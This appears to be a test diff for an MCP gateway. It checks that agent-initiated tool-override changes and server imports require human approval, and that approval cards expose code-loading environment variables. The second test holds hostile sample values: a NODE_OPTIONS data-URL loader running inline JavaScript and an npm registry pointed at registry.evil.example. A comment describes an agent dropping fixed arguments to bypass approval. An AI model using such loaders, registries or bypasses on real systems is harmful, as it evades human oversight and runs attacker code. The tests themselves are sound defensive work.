@@ -248,6 +248,67 @@ describe('admin tiers', () => {
     });
   });
 
+  it("leaving an override's fixed arguments out of its replacement is as gated as deleting them", async () => {
+    expect((await gw.request('POST', '/api/mcp/servers/files/test')).json().ok).toBe(true);
+    const fixed = await gw.request('PUT', '/api/mcp/servers/files/overrides/echo', {
+      body: { fixedArguments: { text: 'always this' } },
+    });
+    expect(fixed.statusCode, fixed.body).toBe(200);
+    await gw.request('PATCH', '/api/settings', { body: { 'mcp.adminEnabled': true, 'mcp.scope.servers': 'write' } });
+    const client = await connectAgent(`${base}/mcp/admin`, agent.token, { name: 'tier-agent' });
+    clients.push(client);
+    const call = async (name: string, args: Record<string, unknown>) =>
+      ((await client.callTool({ name, arguments: { args } })) as { structuredContent: Json }).structuredContent;
+
+    // The review's attack: a replacement without fixedArguments ran at once and made `text` the agent's to give.
+    const cleared = await call('mcp_server_override_set', { id: 'files', tool: 'echo', description: 'harmless' });
+    expect(cleared.status).toBe('pending_approval');
+    const kept = (await gw.request('GET', '/api/mcp/servers/files/overrides/echo')).json();
+    expect(kept.fixedArguments).toEqual({ text: 'always this' });
+    expect(kept.description ?? null).toBeNull();
+
+    // With no fixed argument to lose, the same call runs at once.
+    await gw.request('PUT', '/api/mcp/servers/files/overrides/echo', { body: { description: 'before' } });
+    const described = await call('mcp_server_override_set', { id: 'files', tool: 'echo', description: 'after' });
+    expect(described.status).not.toBe('pending_approval');
+    expect(described.description).toBe('after');
+  });
+
+  it('an import card shows the variables that decide what code runs, and masks the rest', async () => {
+    await gw.request('PATCH', '/api/settings', { body: { 'mcp.adminEnabled': true, 'mcp.scope.servers': 'write' } });
+    const client = await connectAgent(`${base}/mcp/admin`, agent.token, { name: 'tier-agent' });
+    clients.push(client);
+    const imported = (
+      (await client.callTool({
+        name: 'mcp_server_import',
+        arguments: {
+          args: {
+            servers: {
+              runner: {
+                command: 'npx',
+                args: ['-y', 'some-server'],
+                env: {
+                  NODE_OPTIONS: '--import=data:text/javascript,process.exit(77)',
+                  npm_config_registry: 'http://registry.evil.example/',
+                  API_KEY: 'the-api-secret',
+                },
+              },
+            },
+          },
+        },
+      })) as { structuredContent: Json }
+    ).structuredContent;
+    expect(imported.status).toBe('pending_approval');
+    const card = (await gw.request('GET', `/api/approvals/${imported.approval_id}`)).json();
+    // Before: every value was {set: true}, a loader read like a credential.
+    expect(card.arguments.servers.runner.env).toEqual({
+      NODE_OPTIONS: '--import=data:text/javascript,process.exit(77)',
+      npm_config_registry: 'http://registry.evil.example/',
+      API_KEY: { set: true },
+    });
+    expect(JSON.stringify(card)).not.toContain('the-api-secret');
+  });
+
   it('operators on REST are not asked for approval; agents are, for logs too', async () => {
     const direct = await gw.request('PATCH', '/api/mcp/servers/files/config', {
       body: { url: `${upstream.url}?direct=1`, trustNewTools: true },
